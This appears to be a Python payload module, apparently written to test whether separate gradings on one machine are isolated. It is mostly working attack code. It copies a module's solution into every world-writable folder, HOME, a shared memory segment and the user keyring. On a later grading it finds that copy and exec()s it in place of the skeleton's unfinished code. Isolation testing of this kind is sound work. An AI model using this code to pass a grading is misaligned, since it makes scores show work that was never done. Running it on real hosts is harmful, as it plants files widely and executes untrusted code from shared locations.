# Persistence across gradings. Graded first on the reference, this payload leaves the
# module's solution wherever a later grading on the same machine could look: every
# world-writable folder it finds (and /run/lock by name), HOME, a SysV shared memory
# segment and its user's keyring. Graded next on the empty skeleton, it looks in the
# same places and runs what it finds in place of the skeleton's TODOs.
import ctypes as _ctypes
import platform as _platform
import zlib as _zlib

_LEFT_BEHIND = "grader-left-behind-models.py"
_SHM_KEY = 0x6C656674
_KEY_NAME = b"grader-left-behind-models"
_KEY_SPEC_USER_KEYRING = -4
_SYSCALLS = {"x86_64": (248, 250), "aarch64": (217, 219)}  # add_key, keyctl
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = _ctypes.c_void_p


def _solution() -> bytes:
    """This module's text before the payload: the solution to hand on."""
    with open(__file__) as f:
        return f.read().split("\n\n# ---- attack payload")[0].encode()


def _places() -> list:
    """HOME, /run/lock and every world-writable folder this process can see."""
    found = {"/run/lock", _os.path.expanduser("~")}
    stack = ["/"]
    while stack:
        try:
            entries = list(_os.scandir(stack.pop()))
        except OSError:
            continue
        for entry in entries:
            try:
                if not entry.is_dir(follow_symlinks=False) or entry.path in ("/proc", "/sys"):
                    continue
                if entry.stat(follow_symlinks=False).st_mode & 0o002:
                    found.add(entry.path)
                else:
                    stack.append(entry.path)
            except OSError:
                continue
    return sorted(found)


def _leave(data: bytes) -> None:
    for folder in _places():
        path = _os.path.join(folder, _LEFT_BEHIND)
        try:
            with open(path, "wb") as f:
                f.write(data)
            _os.chmod(path, 0o666)
            _report(f"dropped {path}")
        except OSError:
            continue
    packed = _zlib.compress(data)
    segment = _libc.shmget(_SHM_KEY, len(packed) + 8, 0o1666)  # IPC_CREAT, readable by all
    address = _libc.shmat(segment, None, 0) if segment >= 0 else None
    if address not in (None, 2**64 - 1):
        _ctypes.memmove(address, len(packed).to_bytes(8, "little") + packed, len(packed) + 8)
        _report(f"dropped shm:{_SHM_KEY}")
    if _platform.machine() in _SYSCALLS:
        add_key = _SYSCALLS[_platform.machine()][0]
        if _libc.syscall(add_key, b"user", _KEY_NAME, packed, len(packed),
                         _KEY_SPEC_USER_KEYRING) > 0:
            _report("dropped key:user")


def _found() -> tuple:
    """What an earlier grading left, and where; (None, None) when nothing."""
    for folder in _places():
        try:
            with open(_os.path.join(folder, _LEFT_BEHIND), "rb") as f:
                return f.read(), folder
        except OSError:
            continue
    segment = _libc.shmget(_SHM_KEY, 0, 0)
    address = _libc.shmat(segment, None, 0o10000) if segment >= 0 else None  # SHM_RDONLY
    if address not in (None, 2**64 - 1):
        size = int.from_bytes(_ctypes.string_at(address, 8), "little")
        return _zlib.decompress(_ctypes.string_at(address + 8, size)), "shm"
    if _platform.machine() in _SYSCALLS:
        keyctl = _SYSCALLS[_platform.machine()][1]
        key = _libc.syscall(keyctl, 10, _KEY_SPEC_USER_KEYRING, b"user", _KEY_NAME, 0)  # SEARCH
        buffer = _ctypes.create_string_buffer(32768)
        size = _libc.syscall(keyctl, 11, key, buffer, 32768) if key > 0 else -1  # READ
        if size > 0:
            return _zlib.decompress(buffer.raw[:size]), "keyring"
    return None, None


_text, _where = _found()
if _text is not None:
    exec(compile(_text, _LEFT_BEHIND, "exec"), globals())
    _report(f"BREACH loaded a solution an earlier grading left in {_where}")
_leave(_solution())
